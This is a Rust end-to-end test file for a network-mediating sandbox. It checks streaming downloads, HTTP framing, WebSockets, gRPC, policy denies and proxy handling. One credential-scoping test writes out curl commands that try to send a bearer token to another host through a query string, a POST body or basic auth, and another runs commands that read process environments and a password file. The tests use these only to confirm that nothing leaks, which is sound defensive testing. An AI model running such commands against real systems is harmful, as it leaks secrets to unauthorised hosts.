//! Connections over time: long ones, slow ones, ones in pieces, ones that a change of
//! the policy ends.

use std::fs;
use std::os::unix::fs::PermissionsExt as _;
use std::path::Path;
use std::process::{Child, Stdio};
use std::time::{Duration, Instant};

use crate::internet::{API, DENIED, GREETING, Internet};
use crate::places;
use crate::postgres::Postgres;
use crate::run::{Running, eventually};
use crate::scenario::Need::{self, Program};
use crate::world::World;

scenarios! { "flows":
    a_long_download_takes_little_memory [Need::Internet],
    a_long_download_takes_little_memory_inspected [Need::Internet, Program("curl")],
    ten_gibibytes_pass [Need::Internet, Need::Asked("REMIT_E2E_LONG")],
    bodies_arrive_as_they_were [Need::Internet, Program("curl")],
    events_arrive_one_by_one [Need::Internet],
    messages_of_grpc_go_both_ways_and_end_in_trailers [Need::Internet],
    a_web_socket_goes_both_ways [Need::Internet],
    a_slow_program_is_cut [Need::Internet],
    a_deny_ends_an_open_web_socket_at_once [Need::Internet],
    a_secret_goes_to_its_own_host_alone [Need::Internet, Program("curl")],
    a_database_is_named_in_the_record [Need::Internet, Program("psql"), Need::Postgres],
    everything_goes_by_the_proxy_outside [Need::Internet, Program("curl")],
}

const BULK: &str = include_str!("flows/bulk.py");
const SOCKET: &str = include_str!("flows/websocket.py");

/// Sends what it was told to on every connection to port 9000.
struct Flood(Child);

impl Flood {
    fn start(internet: &Internet<'_>, mebibytes: u64) -> Self {
        let file = internet.folder().join("bulk.py");
        fs::write(&file, BULK).expect("a file");
        let mut python = internet.lab.enter("python3");
        python.arg(file).args(["serve", &mebibytes.to_string()]).stdin(Stdio::null());
        let server = Self(python.spawn().expect("nsenter"));
        eventually("the server of much", Duration::from_secs(10), || {
            let listens = internet
                .lab
                .enter("python3")
                .args(["-c", "import socket; socket.create_connection(('127.0.0.1', 9000))"])
                .stderr(Stdio::null())
                .status();
            listens.is_ok_and(|status| status.success()).then_some(())
        });
        server
    }
}

impl Drop for Flood {
    fn drop(&mut self) {
        let _ = self.0.kill();
        let _ = self.0.wait();
    }
}

/// The most memory that a process has held, in MiB. SOURCE: proc_pid_status(5), `VmHWM`.
fn most_memory(running: &Running) -> Option<u64> {
    let status =
        fs::read_to_string(format!("/proc/{}/status", running.pid().as_raw_nonzero())).ok()?;
    let line = status.lines().find_map(|line| line.strip_prefix("VmHWM:"))?;
    Some(line.trim().strip_suffix(" kB")?.parse::<u64>().ok()? / 1024)
}

/// More than a supervisor takes and much less than what passes through it.
const LITTLE: u64 = 150;

/// How long ten gibibytes may take on a busy machine.
const PATIENCE: Duration = Duration::from_secs(100);

/// Runs a download to its end inside. Returns the most memory that Remit held.
#[track_caller]
fn download(internet: &Internet<'_>, script: &str, says: &str) -> u64 {
    let remit = places::remit();
    let mut running = internet.lab.start(&remit, &["run", "--", "sh", "-c", script]);
    let mut most = 0;
    let started = Instant::now();
    while !running.has_ended() && started.elapsed() < PATIENCE {
        most = most_memory(&running).unwrap_or(0).max(most);
        std::thread::sleep(Duration::from_millis(20));
    }
    running.finish().succeeds().says(says);
    assert!(most > 0, "the supervisor was looked at");
    most
}

fn pull(world: &World, mebibytes: u64) {
    let mut internet = Internet::new(world);
    internet.lab.look_away();
    let _server = Flood::start(&internet, mebibytes);
    world.settings("[network]\nallow = [\"api.example:9000\"]\n");
    internet.script("bulk.py", BULK);
    let script = format!("python3 bulk.py pull {API}");
    let most = download(&internet, &script, &(mebibytes << 20).to_string());
    assert!(most < LITTLE, "{most} MiB");
    world.record().has(&["\"received\"", &(mebibytes << 20).to_string()]);
}

fn a_long_download_takes_little_memory(world: &World) {
    pull(world, 2 << 10);
}

fn ten_gibibytes_pass(world: &World) {
    pull(world, 10 << 10);
}

/// Without being asked, a program that is inspected gets its bytes through two TLS
/// connections and a reader of HTTP.
fn a_long_download_takes_little_memory_inspected(world: &World) {
    let internet = Internet::new(world);
    world.settings("[network]\nallow = [\"api.example\"]\ninspect = [\"api.example\"]\n");
    for version in ["--http1.1", "--http2"] {
        let script = format!("curl -sS -m 30 {version} https://{API}/much | wc -c");
        // What `/much` in `servers.mjs` sends.
        let most = download(&internet, &script, &(200 << 20).to_string());
        assert!(most < LITTLE, "{version}: {most} MiB");
    }
}

/// Of every length and framing, by each version of HTTP.
fn bodies_arrive_as_they_were(world: &World) {
    let internet = Internet::new(world);
    world.settings("[network]\nallow = [\"api.example\"]\ninspect = [\"api.example\"]\n");
    let forms = [
        "http://api.example",
        "--http1.0 http://api.example",
        "--http1.1 https://api.example",
        "--http2 https://api.example",
    ];
    let ways = ["", "-H 'transfer-encoding: chunked'", "-H 'expect: 100-continue'"];
    let mut script = "set -e; ".to_owned();
    for size in ["0", "1", "65536", "9000001"] {
        script += &format!(
            "head -c {size} /dev/urandom > body; sha256sum < body | cut -d' ' -f1 > hash; "
        );
        for (form, way) in forms.iter().flat_map(|form| ways.iter().map(move |way| (form, way))) {
            // HTTP/1.0 knows no pieces.
            if form.contains("1.0") && !way.is_empty() {
                continue;
            }
            script += &format!(
                "[ \"$(curl -sS -m 10 {way} --data-binary @body {form}/digest)\" = $(cat hash) ] || echo {size} {way:?} {form}; "
            );
        }
    }
    for form in forms {
        for code in ["204", "304", "404", "503"] {
            let status = "-o /dev/null -w '%{http_code}'";
            script += &format!(
                "[ \"$(curl -sS -m 5 {status} {form}/status?code={code})\" = {code} ] || echo {code} {form}; "
            );
        }
        script +=
            &format!("curl -sS -m 5 -I {form}/ | head -1 | grep -q 200 || echo HEAD {form}; ");
    }
    let output = internet.inside(&script).succeeds();
    assert_eq!(output.out, "", "{output:?}");
}

fn events_arrive_one_by_one(world: &World) {
    let internet = Internet::new(world);
    internet.script("events.py", include_str!("flows/events.py"));
    world.settings("[network]\nallow = [\"api.example\"]\ninspect = [\"api.example\"]\n");
    for url in ["http://api.example/events", "https://api.example/events"] {
        let output = internet.inside(&format!("python3 events.py {url}")).succeeds();
        let lags: Vec<f64> = output.out.lines().filter_map(|line| line.parse().ok()).collect();
        assert_eq!(lags.len(), 5, "{output:?}");
        // Kept back until the last, the first would be late by four fifths of a second.
        assert!(lags[..4].iter().all(|lag| *lag < 0.5), "{url}: {lags:?}");
    }
}

fn messages_of_grpc_go_both_ways_and_end_in_trailers(world: &World) {
    let internet = Internet::new(world);
    internet.script("grpc.mjs", include_str!("flows/grpc.mjs"));
    let expected = "application/grpc\none\ntwo\nstatus 0\n";
    assert_eq!(
        internet
            .outside("NODE_EXTRA_CA_CERTS=/etc/ssl/certs/ca-certificates.crt node grpc.mjs")
            .out,
        expected
    );
    world.settings("[network]\nallow = [\"api.example\"]\ninspect = [\"api.example\"]\n");
    let output = internet.inside("node grpc.mjs");
    assert_eq!(output.out, expected, "{output:?}");
    world.record().has(&["\"request\"", "/test.Echo/Say"]);
}

fn a_web_socket_goes_both_ways(world: &World) {
    let internet = Internet::new(world);
    internet.script("websocket.py", SOCKET);
    for inspect in ["", "inspect = [\"api.example\"]\n"] {
        world.settings(&format!("[network]\nallow = [\"api.example\"]\n{inspect}"));
        for port in ["80", "443"] {
            let output = internet.inside(&format!("python3 websocket.py {API} {port} one two"));
            assert_eq!(output.out, "one\ntwo\n", "{port} {inspect}: {output:?}");
        }
    }
    // Its bytes are no requests, so where only some may be made it is none of them.
    world.settings("[network]\nallow = [\"api.example\"]\nweb = \"read-only\"\n");
    internet.inside(&format!("python3 websocket.py {API} 443 one")).fails();
}

/// A program that says its first words byte by byte holds a connection of ours and
/// none of the host's.
fn a_slow_program_is_cut(world: &World) {
    let internet = Internet::new(world);
    world.settings("[network]\nallow = [\"api.example\"]\n");
    internet.script("slow.py", include_str!("flows/slow.py"));
    let output = internet.inside(&format!("python3 slow.py {API} 18")).succeeds();
    assert_eq!(output.out, "80 cut\n443 cut\n", "{output:?}");
    assert!(internet.saw(&["method"]).is_empty(), "{:?}", internet.seen());
    let output = internet.outside(&format!("python3 slow.py {API} 12")).succeeds();
    // Node itself does not wait for such a method.
    assert!(output.out.ends_with("443 open\n"), "the control: {output:?}");
}

fn a_deny_ends_an_open_web_socket_at_once(world: &World) {
    let internet = Internet::new(world);
    internet.script("websocket.py", SOCKET);
    let both =
        "[network]\nallow = [\"api.example\", \"other.example\"]\ninspect = [\"api.example\"]\n";
    world.settings(both);
    let remit = places::remit();
    let open = |host: &str, file: &str| {
        let script = format!("python3 websocket.py {host} 443 one --hold > {file} 2>&1");
        internet.lab.start(&remit, &["run", "--", "sh", "-c", &script])
    };
    let said = |file: &str| fs::read_to_string(world.workspace.join(file)).unwrap_or_default();
    let open = [open(API, "first"), open("other.example", "second")];
    for file in ["first", "second"] {
        eventually("the WebSocket", Duration::from_secs(15), || {
            said(file).contains("one").then_some(())
        });
    }
    let config = world.home.join(".config/remit/config.toml");
    let draft = config.with_extension("new");
    world.write(&draft, &format!("{both}deny = [\"api.example\"]\n"));
    let denied = Instant::now();
    // At once: a file that is written to is empty for a moment, which is a policy too.
    fs::rename(draft, config).expect("a change of the settings");
    eventually("the end of the WebSocket", Duration::from_secs(5), || {
        said("first").contains("ended").then_some(())
    });
    let took = denied.elapsed();
    assert!(took < Duration::from_secs(3), "{took:?}");
    assert!(!said("second").contains("ended"), "what is still allowed stays open");
    fs::write(world.workspace.join("enough"), "").expect("a file");
    for session in open {
        session.finish();
    }
    let records: Vec<_> = world.sessions().iter().map(|id| record(world, id)).collect();
    assert!(records.iter().any(|record| record.contains("network.deny")), "{records:#?}");
}

fn record(world: &World, session: &str) -> String {
    world.remit(&["log", "show", session, "--json"]).succeeds().out
}

fn a_secret_goes_to_its_own_host_alone(world: &World) {
    let secret = "tok-5ecre7-2f81c09d77aa41";
    let internet = Internet::new(world);
    let file = world.home.join("token");
    world.write(&file, secret);
    fs::set_permissions(&file, fs::Permissions::from_mode(0o600)).expect("a closed file");
    world.settings(&format!(
        "[network]\nallow = [\"api.example\", \"other.example\"]\ninspect = [\"other.example\"]\n\
         [credentials.token]\nsource = {{ file = \"{}\" }}\nhosts = [\"api.example:443\"]\npaths = [\"/echo\"]\n\
         as = \"bearer\"\nexpose = \"TOKEN\"\n",
        file.display()
    ));
    let curl = "curl -sS -m 10 -H \"authorization: Bearer $TOKEN\"";
    let output =
        internet.inside(&format!("{curl} https://{API}/echo; echo; cat {}", file.display()));
    assert!(!output.both().contains(secret), "an echo: {output:?}");
    let bearer = format!("Bearer {secret}");
    assert!(!internet.saw(&[&bearer, "/echo"]).is_empty(), "{output:?} {:?}", internet.seen());
    world.record().has(&["connect_fact", "token"]);
    internet.forget();
    for elsewhere in [
        format!("{curl} https://{API}/other"),
        format!("{curl} https://other.example/echo"),
        format!("{curl} http://{API}/echo"),
        format!("{curl} http://other.example/echo"),
        "curl -sS -m 10 'https://other.example/echo?x='$TOKEN".to_owned(),
        "curl -sS -m 10 -d x=$TOKEN https://other.example/echo".to_owned(),
        "curl -sS -m 10 -u user:$TOKEN https://other.example/echo".to_owned(),
    ] {
        let output = internet.inside(&elsewhere);
        assert!(internet.saw(&[secret]).is_empty(), "{elsewhere}: {:?}", internet.saw(&[secret]));
        assert!(
            !output.out.contains(GREETING) && !output.out.contains("\"method\""),
            "{elsewhere}: {output:?}"
        );
        world.record().has(&["refusal"]);
    }
    let environment =
        internet.inside("env; cat /proc/*/environ; cat /run/remit/trust/* | grep -c PRIVATE").out;
    assert!(!environment.contains(secret) && environment.contains("TOKEN="));
    assert!(Path::new(&file).exists());
}

fn a_database_is_named_in_the_record(world: &World) {
    let internet = Internet::new(world);
    let _server = Postgres::within(world, &internet.lab);
    let script =
        "psql -h db.example -U postgres -At -c \"select 'hello from a database'\" postgres";
    internet.outside(script).succeeds().says("hello from a database");
    internet.inside(script).fails();
    world.settings("[network]\nallow = [\"db.example:5432\"]\n");
    for mode in ["prefer", "disable"] {
        internet
            .inside(&format!("PGSSLMODE={mode} {script}"))
            .succeeds()
            .says("hello from a database");
        world.record().has(&["connect_fact", "\"database\":\"postgres\""]);
    }
}

/// A machine whose only way out is a proxy that wants a password, which the agent
/// never sees; names are looked up by the proxy.
fn everything_goes_by_the_proxy_outside(world: &World) {
    let internet = Internet::new(world);
    let file = world.home.join("proxy");
    world.write(&file, "open-sesame");
    fs::set_permissions(&file, fs::Permissions::from_mode(0o600)).expect("a closed file");
    let settings = format!(
        "[network]\nallow = [\"api.example\"]\nproxy = \"http://proxy.example:3128\"\n\
         proxy_credential = \"corporate\"\nno_proxy = [\"other.example\"]\n\
         [credentials.corporate]\nsource = {{ file = \"{}\" }}\nas = \"basic\"\nname = \"user\"\n",
        file.display()
    );
    for inspect in ["", "inspect = [\"api.example\"]\n"] {
        world.settings(&settings.replace("[credentials", &format!("{inspect}[credentials")));
        internet.forget();
        for url in ["https://api.example/", "http://api.example/"] {
            internet.inside(&format!("curl -sS -m 10 {url}")).succeeds().says(GREETING);
        }
        assert!(
            !internet.saw(&["proxy", "api.example:443", "true"]).is_empty(),
            "{:?}",
            internet.seen()
        );
        assert!(
            !internet.saw(&["proxy", "api.example:80", "true"]).is_empty(),
            "{:?}",
            internet.seen()
        );
        internet.inside(&format!("curl -sS -m 10 https://{DENIED}/")).fails_or_is_refused();
        assert!(internet.saw(&[DENIED]).is_empty(), "{:?}", internet.seen());
    }
    let output = internet.inside("env; cat ~/proxy; curl -sS -m 5 http://proxy.example:3128/");
    assert!(!output.both().contains("open-sesame"), "{output:?}");
}
